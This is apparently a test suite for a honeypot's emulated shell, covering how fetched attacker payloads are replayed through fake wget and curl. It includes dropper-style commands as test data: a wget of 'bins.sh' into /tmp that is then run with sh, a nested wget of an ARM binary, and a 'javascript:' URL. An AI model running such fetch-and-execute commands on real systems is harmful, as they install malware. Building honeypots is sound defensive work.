import { mkdtempSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, expect, test } from 'vitest'
import { loadIdentity } from '../identity.ts'
import { Given, type GivenAnswer } from './given.ts'
import { freshState, ShellPool } from './pool.ts'
import { Worlds } from './world.ts'

const { persona } = await loadIdentity(mkdtempSync(join(tmpdir(), 'skep-identity-')))
const pool = new ShellPool(persona.machine)
const asked: string[] = []
const there = new Map<string, GivenAnswer>()
const given = new Given(async (url) => {
  asked.push(url)
  return there.get(url) ?? 'never'
})
const worlds = new Worlds(persona, pool, { given })
afterAll(async () => {
  given.stop()
  await pool.stop()
})
const run = async (line: string, merged = false) => {
  const { out, err, code } = await pool.run(worlds.of('192.0.2.1'), {
    state: freshState('/root', 'root', '/bin/bash'),
    line,
    stdin: '',
    user: persona.machine.users[0]!,
    source: '192.0.2.1',
    since: Date.now(),
    merged,
  })
  return { out, err, code }
}

test('what a fetcher brought is handed to the attacker who comes again, and runs in its world', async () => {
  const url = 'http://45.0.0.7/bins.sh'
  const script = '#!/bin/sh\necho started > /tmp/mark\nwget http://45.0.0.8/next.arm7\n'
  there.set(url, { bytes: Buffer.from(script), address: '45.0.0.7' })
  expect(await run(`cd /tmp; wget ${url}`)).toMatchObject({ code: 4 })
  worlds.of('192.0.2.1').want(`${url}#x`)
  await expect.poll(() => given.for(url, []).length).toBe(1)
  const { err, code } = await run(`cd /tmp; wget ${url}`)
  expect(code).toBe(0)
  expect(err).toMatch(
    /Connecting to 45\.0\.0\.7:80\.\.\. connected\.\nHTTP request sent, awaiting response\.\.\. 200 OK\n/,
  )
  expect(Buffer.from(err, 'latin1').toString()).toContain(`‘bins.sh’ saved [${script.length}/${script.length}]`)
  expect((await run(`curl -s ${url}`)).out).toBe(script)
  expect(await run('sh /tmp/bins.sh; cat /tmp/mark')).toMatchObject({ out: 'started\n' })
  // The same by a name that is put together as it runs: it was wanted before.
  expect((await run('H=45.0.0; curl -s http://$H.7/bins.sh | head -1')).out).toBe('#!/bin/sh\n')
  // Its quotes are no ASCII, and stay what they are through a pipe.
  expect((await run(`wget -O /tmp/b ${url} 2>&1 | tail -2`)).out).toContain(
    Buffer.from('‘/tmp/b’ saved').toString('latin1'),
  )
  // At a terminal wget draws a bar.
  expect((await run(`wget -O /tmp/b ${url}`, true)).out).toMatch(/\rb {19}? *100%\[=+>\]/)
})

test('the hub is asked once, and not again for a while after it said that nothing is handed on', async () => {
  const off: string[] = []
  const shut = new Given(async (url) => {
    off.push(url)
    return 'off'
  })
  shut.want('http://45.0.0.9/a')
  shut.want('http://45.0.0.9/a')
  await new Promise((resolve) => setImmediate(resolve))
  shut.want('http://45.0.0.9/b')
  expect(off).toEqual(['http://45.0.0.9/a'])
  // No hub, no scheme that is fetched: nothing is asked.
  new Given().want('http://45.0.0.9/a')
  given.want('javascript:alert(1)')
  expect(asked.filter((url) => url.startsWith('javascript'))).toEqual([])
})

test('there is an end to what one line is given', async () => {
  const many = new Given(async () => ({ bytes: Buffer.alloc(3 * 1024 * 1024), address: '45.0.0.10' }))
  for (let i = 0; i < 5; i++) many.want(`http://45.0.0.10/${i}`)
  await new Promise((resolve) => setImmediate(resolve))
  expect(many.for('curl http://45.0.0.10/x', []).map(([url]) => url)).toEqual([
    'http://45.0.0.10/4',
    'http://45.0.0.10/3',
  ])
  many.stop()
})
